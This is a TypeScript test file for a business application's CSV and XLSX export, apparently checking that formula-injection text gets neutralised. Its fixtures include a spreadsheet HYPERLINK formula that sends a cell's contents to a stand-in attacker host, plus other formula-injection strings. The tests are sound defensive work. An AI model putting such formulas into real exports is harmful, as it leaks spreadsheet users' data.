/**
 * CSV formula injection (OWASP "CSV Injection"): a text cell starting with = + - @ tab or CR is
 * neutralised (leading single quote, quoted cell); a number column keeps its negative value as it
 * is (decided by the field's declared type, not by the text); the XLSX keeps the text as text.
 */
import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CsvFinish } from '../../src/registers/csv';
import { adminQuery, createTestApp, type TestApp } from '../helpers/app';
import { login } from '../helpers/auth';

let t: TestApp;
let headers: Record<string, string>;
let contaId: number;
const HYPERLINK = '=HYPERLINK("http://mal.example/?d="&A1,"Clique")';

beforeAll(async () => {
  t = await createTestApp();
  ({ headers } = await login(t, 'ana.admin'));
  await adminQuery(
    t.ownerUrl,
    `insert into marca (assinante_id, descricao, ativo) values
       (1, '+1+cmd', false), (1, '@SUM(A1:A9)', false), (1, E'\\t=1+1', false), (1, E'\\r=2+2', false),
       (1, '-3+3', false), (1, 'Marca comum', false), (1, '''=já protegida', false)`,
  );
  const { rows } = await adminQuery<{ id: number }>(
    t.ownerUrl,
    `insert into conta_corrente (assinante_id, descricao, tipo_conta, loja_id, saldo_inicial, limite, data_saldo_inicial, conta_contabil)
       values (1, $1, 'CAIXA', (select min(id) from loja where assinante_id = 1), -12.50, -0.01, '2026-01-01', '-1.1.01')
     returning id`,
    [HYPERLINK],
  );
  contaId = rows[0]!.id;
});
afterAll(() => t.close());

const get = (url: string) => t.app.inject({ url, headers });

describe('CSV formula injection', () => {
  it('text cells starting with = + - @ tab or CR get a quote and are quoted; other text is untouched', async () => {
    const res = await get('/api/v1/produto/marcas/export?format=csv&q=ativo==false&sort=id');
    expect(res.statusCode).toBe(200);
    const body = res.body;
    expect(body).toContain(`;"'+1+cmd";`);
    expect(body).toContain(`;"'@SUM(A1:A9)";`);
    expect(body).toContain(`;"'\t=1+1";`);
    expect(body).toContain(`;"'\r=2+2";`);
    expect(body).toContain(`;"'-3+3";`);
    expect(body).toContain(';Marca comum;');
    // a cell already starting with a quote keeps its text (quoted: harmless)
    expect(body).toContain(`;"'=já protegida";`);
    // no cell of the file starts with a formula character outside quotes
    for (const line of body.split('\r\n')) for (const cell of line.split(';')) expect(cell).not.toMatch(/^[=+\-@\t]/);
  });

  it('a negative money value stays a number; the formula-looking texts of the same row are neutralised', async () => {
    const res = await get(`/api/v1/financeiro/contas-correntes/export?format=csv&q=id==${contaId}`);
    expect(res.statusCode).toBe(200);
    const row = res.body.split('\r\n')[1]!;
    expect(row).toContain(';-12.50;');
    expect(row).toContain(';-0.01;');
    expect(row).toContain(`"'=HYPERLINK(""http://mal.example/?d=""&A1,""Clique"")"`);
    expect(row).toContain(`;"'-1.1.01"`);
  });

  it('XLSX is unchanged: the text is a text cell, as typed', async () => {
    const res = await get(`/api/v1/financeiro/contas-correntes/export?format=xlsx&q=id==${contaId}`);
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const values = (wb.worksheets[0]!.getRow(2).values as unknown[]).slice(1);
    expect(values).toContain(HYPERLINK);
    expect(values).toContain('-12.50');
    expect(values).toContain('-1.1.01');
  });

  it('the last pass gives the same bytes whatever the chunk boundaries', async () => {
    const copy = Buffer.from(`1;'=a;-5\n2;'\tb;"x\ny"\n3;'c;'@d\n`);
    const whole = await buffer(Readable.from([copy]).pipe(new CsvFinish()));
    expect(whole.toString()).toBe(`1;"'=a";-5\r\n2;"'\tb";"x\ny"\r\n3;'c;"'@d"\r\n`);
    const bytes = Array.from(copy, (b) => Buffer.from([b]));
    const split = await buffer(Readable.from(bytes).pipe(new CsvFinish()));
    expect(split.toString()).toBe(whole.toString());
  });
});
